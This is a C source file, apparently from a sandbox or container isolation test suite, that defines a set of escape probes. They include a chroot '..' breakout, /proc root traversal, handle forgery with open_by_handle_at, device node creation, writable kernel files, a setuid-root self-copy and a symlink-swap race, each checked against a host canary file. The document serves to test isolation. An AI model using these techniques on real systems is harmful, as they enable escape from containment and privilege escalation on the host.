/* Leaving the jail's root, and files that are the host's. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <unistd.h>

/* dotdot CANARY: the classic way out of a chroot. CANARY is a file of the host's, named from its
 * root. */
static void dotdot(char **argv)
{
	int out = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (out < 0 || (mkdir("/tmp/in", 0700) < 0 && errno != EEXIST))
		broken("/tmp/in");
	if (chroot("/tmp/in") < 0)
		lost("chroot");
	if (fchdir(out) < 0)
		broken("fchdir");
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			broken("..");
	if (access(argv[0] + 1, F_OK) == 0)
		won("%s is there", argv[0]);
	if (chroot(".") == 0 && access(argv[0], F_OK) == 0)
		won("%s is there, by chroot", argv[0]);
	lost("no way out by ..");
}

/* procroot CANARY: through what /proc shows of processes. */
static void procroot(char **argv)
{
	static const char *const ways[] = {"root", "cwd", "cwd/../../../../../../.."};
	DIR *d = opendir("/proc");
	unsigned tried = 0;
	if (!d)
		broken("/proc");
	for (struct dirent *e; (e = readdir(d));) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
			char path[4096];
			snprintf(path, sizeof(path), "/proc/%s/%s%s", e->d_name, ways[i], argv[0]);
			tried++;
			if (access(path, F_OK) == 0)
				won("%s", path);
		}
	}
	if (!tried)
		broken("no process in /proc");
	lost("%u ways tried", tried);
}

/* handle CANARY: a file handle made up from an inode's number, against every mount of ours. */
static void handle(char **argv)
{
	struct {
		struct file_handle h;
		unsigned char room[128];
	} f = {.h.handle_bytes = sizeof(f.room)};
	int id, at = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	/* Of any directory that both see: its handle has the form that the file system wants. */
	if (at < 0 || syscall(SYS_name_to_handle_at, AT_FDCWD, argv[0], &f.h, &id, 0) < 0)
		broken("name_to_handle_at %s", argv[0]);
	int fd = (int)syscall(SYS_open_by_handle_at, at, &f.h, O_RDONLY | O_DIRECTORY);
	if (fd >= 0)
		won("opened by handle");
	lost("open_by_handle_at: %s", strerror(errno));
}

/* device [NODE]: opens a node that the host left in the tree, or one of our making (null: what
 * works is harmless, what does not would be worse). */
static void device(char **argv)
{
	const char *name = argv[0] ? argv[0] : "/tmp/node";
	if (!argv[0]) {
		unlink(name);
		if (mknod(name, S_IFCHR | 0666, makedev(1, 3)) < 0)
			lost("mknod: %s", strerror(errno));
	}
	int fd = open(name, O_RDWR | O_CLOEXEC);
	if (fd >= 0)
		won("%s opened", name);
	if (errno == ENOENT)
		broken("%s", name);
	lost("%s: %s", name, strerror(errno));
}

/* knob FILE …: what of the kernel's would let itself be written? Nothing is. */
static void knob(char **argv)
{
	unsigned tried = 0;
	for (; *argv; argv++, tried++) {
		int fd = open(*argv, O_WRONLY | O_CLOEXEC);
		if (fd >= 0)
			won("%s", *argv);
		if (errno == ENOENT)
			broken("%s", *argv);
	}
	lost("%u tried", tried);
}

/* setuid FILE: a copy of ourselves that makes whoever runs it its owner. */
static void make_setuid(char **argv)
{
	static char buf[1 << 20];
	int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int out = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	ssize_t n;
	if (in < 0 || out < 0)
		broken("%s", argv[0]);
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			broken("%s", argv[0]);
	if (fchown(out, 0, 0) < 0 || fchmod(out, 04755) < 0)
		lost("fchmod: %s", strerror(errno));
	won("%s", argv[0]);
}

/* whoami: run by a user of the host through the above. */
static void whoami(char **argv)
{
	(void)argv;
	if (getuid() == 0)
		broken("root to begin with");
	if (geteuid() == 0)
		won("root of the host");
	lost("uid %d, effective %d", (int)getuid(), (int)geteuid());
}

/* swap LINK TARGET DIRECTORY ROUNDS: a name that is a link one moment, a directory the next. */
static void swap(char **argv)
{
	char other[4096];
	long rounds = number(argv[3]);
	snprintf(other, sizeof(other), "%s.other", argv[0]);
	unlink(other);
	if (symlink(argv[1], other) < 0)
		broken("%s", other);
	ready();
	for (long i = 0; i < rounds; i++)
		if (syscall(SYS_renameat2, AT_FDCWD, other, AT_FDCWD, argv[0], 2 /* exchange */) <
		    0)
			broken("exchange");
	lost("%ld rounds", rounds);
}

const struct attack file_attacks[] = {
    {"dotdot", 1, dotdot}, {"procroot", 1, procroot}, {"handle", 1, handle},
    {"device", 0, device}, {"knob", 1, knob},         {"setuid", 1, make_setuid},
    {"whoami", 0, whoami}, {"swap", 3, swap},         {0},
};
